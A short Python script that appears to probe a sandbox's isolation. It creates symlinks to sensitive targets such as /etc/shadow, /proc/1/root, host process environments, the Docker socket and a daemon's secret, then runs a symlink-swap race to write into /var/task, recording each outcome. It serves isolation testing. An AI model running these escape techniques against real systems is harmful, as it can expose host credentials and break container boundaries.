# Links that lead out, and a folder that is exchanged for a link while others walk through it.
import os
import threading


def attempt(what, act):
    try:
        act()
    except OSError as e:
        import errno

        said.append("%s: %s" % (what, errno.errorcode[e.errno]))
    else:
        said.append("%s: done" % what)


daemon, folder = arguments["daemon"], arguments["folder"]
for what, target in [
    ("root of the first process", "/proc/1/root/etc/passwd"),
    ("folder of the first process", "/proc/1/cwd/etc/passwd"),
    ("root of the daemon", "/proc/%s/root/etc/passwd" % daemon),
    ("the daemon's own secret", folder + "/daemon secret"),
    ("the daemon's cache", folder + "/cache/packages"),
    ("shadow", "/etc/shadow"),
    ("above the root", "/../../../../etc/shadow"),
    ("host's processes", "/host/proc/1/environ"),
    ("socket of Docker", "/var/run/docker.sock"),
    ("system bus", "/run/dbus/system_bus_socket"),
]:
    link = "/tmp/link"
    os.symlink(target, link)
    attempt(what, lambda: os.close(os.open(link, os.O_RDONLY)))
    os.unlink(link)

# The race: `/tmp/r/x` is by turns in a folder and behind a link to `/var/task`.
os.mkdir("/tmp/folder")
os.symlink("/var/task", "/tmp/other")
going = True


def exchange():
    while going:
        for name in ["/tmp/folder", "/tmp/other"]:
            os.rename(name, "/tmp/r")
            os.rename("/tmp/r", name)


racer = threading.Thread(target=exchange)
racer.start()
for _ in range(20000):
    try:
        os.close(os.open("/tmp/r/x", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
going = False
racer.join()
attempt("written through a race", lambda: os.stat("/var/task/x"))
